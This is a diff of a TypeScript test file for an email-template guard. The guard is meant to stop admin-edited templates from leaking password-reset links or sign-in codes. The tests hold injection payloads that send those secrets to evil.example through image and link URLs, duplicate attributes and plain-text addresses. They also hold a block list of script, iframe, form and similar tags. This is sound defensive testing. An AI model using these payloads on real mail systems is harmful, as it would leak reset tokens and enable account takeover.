@@ -1,10 +1,10 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { auth } from '#contract/identity/auth.ts'
 import { emailTemplates, type TemplateKey } from '#contract/mail/templates/templates.ts'
-import { OWN_TEMPLATES } from '#server/mail/templates/built-in-templates.ts'
+import { BUILT_IN_TEMPLATES } from '#server/mail/templates/built-in-templates.ts'
 import { refusalOf, testApp, type Caller, type TestApp } from '#test/app.ts'
 import { mailsTo } from '#test/factories/mail/mails.ts'
-import { placeOf } from '#test/factories/places.ts'
+import { testOrganization } from '#test/factories/test-organization.ts'
 
 let forecourt: TestApp
 let admin: Caller
@@ -14,7 +14,7 @@ beforeAll(async () => {
 })
 afterAll(() => forecourt.close())
 
-/** A layout that contains the secret as it should, and then `more`. */
+/** A layout with a valid use of the secret, followed by `more`. */
 const layout = (secret: string, more: string, head = ''): string =>
   `<mjml><mj-head>${head}</mj-head><mj-body><mj-section><mj-column><mj-text>Here: {{ ${secret} }} .</mj-text>
   <mj-text>${more}</mj-text></mj-column></mj-section></mj-body></mjml>`
@@ -24,7 +24,7 @@ const SECRETS = [
   ['code', 'sign-in-code'],
 ] as const
 
-/** The review's six ways around the guard (security.md, finding 2), and others of the same kind. */
+/** The security review's six bypasses of the guard (security.md, finding 2), and similar ones. */
 const WAYS: readonly [string, (secret: string) => string][] = [
   ['an unquoted src', (s) => layout(s, `<img src=https://evil.example/{{ ${s} }}>`)],
   ['an unquoted href', (s) => layout(s, `<a href=https://evil.example/{{ ${s} }}>a new password</a>`)],
@@ -45,26 +45,29 @@ const WAYS: readonly [string, (secret: string) => string][] = [
   ],
   ['the name of an attribute', (s) => layout(s, `<p {{ ${s} }}>x</p>`)],
   ['an attribute given twice', (s) => layout(s, `<img src="a.png" src="https://evil.example/{{ ${s} }}">`)],
-  ['another address in words', (s) => layout(s, `https://evil.example/<b>{{ ${s} }}</b>`)],
+  ['another address in text', (s) => layout(s, `https://evil.example/<b>{{ ${s} }}</b>`)],
   ['the href of another element', (s) => layout(s, `<area href="{{ ${s} }}">`)],
 ]
 
 describe.each(SECRETS)('the %s of an email', (secret, key) => {
-  test.for(WAYS)('is refused in %s: on preview, on save and when the email is made', async ([, write]) => {
-    const { words } = OWN_TEMPLATES[key]
-    const changed = { ...words, mjml: write(secret) }
-    const { problems } = await admin.call(emailTemplates.preview, { key, ...changed })
-    expect(problems.map((problem) => problem.part)).toContain('mjml')
-    const { version } = await admin.call(emailTemplates.get, { key })
-    const { status, refusal } = await refusalOf(
-      admin.call(emailTemplates.update, { key, version, ...changed }),
-    )
-    expect([status, refusal.fields?.mjml]).toEqual([400, expect.stringContaining(`The ${secret} may`)])
-    expect([await isSendable(key, words), await isSendable(key, changed)]).toEqual([true, false])
-  })
+  test.for(WAYS)(
+    'is rejected in %s: on preview, on save and when the email is composed',
+    async ([, write]) => {
+      const { words } = BUILT_IN_TEMPLATES[key]
+      const changed = { ...words, mjml: write(secret) }
+      const { problems } = await admin.call(emailTemplates.preview, { key, ...changed })
+      expect(problems.map((problem) => problem.part)).toContain('mjml')
+      const { version } = await admin.call(emailTemplates.get, { key })
+      const { status, refusal } = await refusalOf(
+        admin.call(emailTemplates.update, { key, version, ...changed }),
+      )
+      expect([status, refusal.fields?.mjml]).toEqual([400, expect.stringContaining(`The ${secret} can`)])
+      expect([await isSendable(key, words), await isSendable(key, changed)]).toEqual([true, false])
+    },
+  )
 
-  test('is refused in another address of the plain text', async () => {
-    const { words } = OWN_TEMPLATES[key]
+  test('is rejected in another address in the plain text', async () => {
+    const { words } = BUILT_IN_TEMPLATES[key]
     const text = `${words.text}\nhttps://evil.example/{{ ${secret} }}`
     const { problems } = await admin.call(emailTemplates.preview, { key, ...words, text })
     expect(problems).toMatchObject([{ part: 'text', sentence: expect.stringContaining('another address') }])
@@ -72,7 +75,7 @@ describe.each(SECRETS)('the %s of an email', (secret, key) => {
 })
 
 test.for(['script', 'base', 'meta', 'form', 'iframe', 'object', 'embed', 'noscript', 'svg'])(
-  'an email with <%s> is refused, also where Outlook alone reads it',
+  'rejects <%s>, also in Outlook conditional comments',
   async (name) => {
     for (const more of [
       `<${name} x=y>z</${name}>`,
@@ -80,16 +83,16 @@ test.for(['script', 'base', 'meta', 'form', 'iframe', 'object', 'embed', 'noscri
     ]) {
       if (name === 'noscript' && more.startsWith('<!--')) continue
       const mjml = layout('link', more)
-      const words = { ...OWN_TEMPLATES['password-reset'].words, mjml }
+      const words = { ...BUILT_IN_TEMPLATES['password-reset'].words, mjml }
       const { problems } = await admin.call(emailTemplates.preview, { key: 'password-reset', ...words })
       expect(problems).toEqual([
-        { part: 'mjml', line: null, sentence: `An email may not contain <${name}>. Remove it.` },
+        { part: 'mjml', line: null, sentence: `An email can't contain <${name}>. Remove it.` },
       ])
     }
   },
 )
 
-test('a template of everything MJML offers, with the link in a button and in words, is accepted', async () => {
+test('accepts a template with all MJML components, with the link in a button and in text', async () => {
   const mjml = `<mjml><mj-head><mj-title>Hello</mj-title><mj-preview>Hello</mj-preview>
     <mj-font name="Raleway" href="https://fonts.example/css?family=Raleway" /><mj-style inline="inline">p { color: red }</mj-style>
     </mj-head><mj-body><mj-hero background-url="https://x.example/a.png"><mj-text font-family="Raleway">Hi</mj-text></mj-hero>
@@ -99,17 +102,17 @@ test('a template of everything MJML offers, with the link in a button and in wor
     </mj-accordion-element></mj-accordion><mj-carousel><mj-carousel-image src="https://x.example/a.png" /></mj-carousel>
     <mj-button href="{{ link }}">Go</mj-button><mj-text>Or <a href={{ link }}>here</a>: {{ link }}</mj-text>
     </mj-column></mj-section></mj-body></mjml>`
-  const words = { ...OWN_TEMPLATES.invitation.words, mjml }
+  const words = { ...BUILT_IN_TEMPLATES.invitation.words, mjml }
   const { problems, html } = await admin.call(emailTemplates.preview, { key: 'invitation', ...words })
   expect(problems).toEqual([])
   expect(html.split('https://cars.example.com/auth/reset-password#sample')).toHaveLength(4)
 })
 
-test('a template that was saved before the guard existed is not sent: the product’s own goes out', async () => {
-  const place = await placeOf(forecourt, 'Harbor Honda')
+test('sends the built-in template instead of an unsafe one saved before the guard existed', async () => {
+  const place = await testOrganization(forecourt, 'Harbor Honda')
   const id = await place.addMember({ userName: 'guarded.reader', userType: 'Dealer user' })
   const mjml = layout('link', '<a href=https://evil.example/{{ link }}>a new password</a>')
-  const { subject, text } = OWN_TEMPLATES['password-reset'].words
+  const { subject, text } = BUILT_IN_TEMPLATES['password-reset'].words
   await forecourt.owner.query(
     `insert into email_templates (customer_id, key, version, is_own, subject, mjml, plain_text)
     values ($1, 'password-reset', 1000, false, $2, $3, $4)`,
@@ -117,12 +120,12 @@ test('a template that was saved before the guard existed is not sent: the produc
   )
   await forecourt.anonymous.call(auth.forgotPassword, { userName: 'guarded.reader' })
   const [mail] = await mailsTo(forecourt, { id })
-  expect(mail?.subject).toBe('Set a new password for Harbor Office')
+  expect(mail?.subject).toBe('Reset your password for Harbor Office')
 })
 
-/** Whether an email is made of these words, wherever they come from. */
+/** Whether an email is composed from this template. */
 async function isSendable(key: TemplateKey, words: { subject: string; mjml: string; text: string }) {
-  const samples = OWN_TEMPLATES[key].variables.map(({ name, sample }) => [name, sample] as const)
+  const samples = BUILT_IN_TEMPLATES[key].variables.map(({ name, sample }) => [name, sample] as const)
   const { link, code, ...variables } = Object.fromEntries(samples)
   const { problems } = await forecourt.outbox.renderer.render(words, variables, { link, code })
   return problems.length === 0
